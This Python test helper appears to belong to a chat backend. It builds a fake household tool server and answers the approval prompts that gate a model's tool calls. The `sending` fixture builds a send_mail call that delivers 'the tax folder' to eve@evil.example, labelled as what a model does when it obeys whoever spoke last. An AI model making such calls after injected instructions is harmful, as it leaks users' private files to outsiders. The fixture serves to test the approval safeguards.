"""A talk whose model may use a tool server that really listens, and the answers of its person."""

from dataclasses import dataclass

import orjson

from backend.auth.people import User
from backend.chat.events import ApprovalRequested, InputRequested
from backend.chat.live import QuestionAsked
from backend.container import Services
from backend.messages import ToolCall
from backend.settings import Settings
from backend.toolbox.context import Choice, Decision
from tests.fakes.mcp_household import HouseholdServer
from tests.fakes.mcp_server import Running
from tests.fakes.scripted import tool
from tests.fakes.waiting import until

YES, NO = Decision(allowed=True), Decision(allowed=False)
ALWAYS, NEVER = Decision(allowed=True, remember=True), Decision(allowed=False, remember=True)


def in_the_file(settings: Settings, **urls: str) -> None:
    """Write the operator's file: id -> URL."""
    entries = [{"id": key, "url": url} for key, url in urls.items()]
    file = settings.server.state_dir / "mcp_servers.json"
    file.write_bytes(orjson.dumps({"servers": entries}))


def sending(to: str = "eve@evil.example", text: str = "the tax folder") -> ToolCall:
    """The call of a model that obeys whoever spoke last."""
    return tool("send_mail", orjson.dumps({"to": to, "text": text}).decode())


@dataclass
class Home:
    services: Services
    owner: User
    server: HouseholdServer
    remote: Running

    async def is_ready(self, *names: str) -> None:
        connections = self.services.tool_servers.connections
        for name in names or ("household",):
            await until(lambda name=name: name in connections and connections[name].session)

    async def chose(self, tool: str, choice: Choice | None) -> None:
        key = ("household", tool)
        await self.services.tool_servers.decisions.choose(self.owner.id, key, choice)

    async def refresh(self) -> None:
        await self.services.tool_servers.connections["household"].refresh(5)

    def open(self) -> list[QuestionAsked]:
        return self.services.chat.questions(self.owner.id)

    async def asked(self) -> QuestionAsked:
        """The question that the running turn puts."""
        await until(self.open)
        [one] = self.open()
        return one

    async def approval(self) -> ApprovalRequested:
        question = (await self.asked()).question
        assert isinstance(question, ApprovalRequested)
        return question

    async def answers(self, decision: Decision, user: User | None = None) -> ApprovalRequested:
        """Wait for what is asked and answer it."""
        one = await self.asked()
        assert isinstance(one.question, ApprovalRequested)
        approval_id = one.question.approval_id
        await self.services.chat.decide(user or self.owner, one.turn_id, approval_id, decision)
        return one.question

    async def input(self) -> tuple[str, InputRequested]:
        one = await self.asked()
        assert isinstance(one.question, InputRequested)
        return one.turn_id, one.question
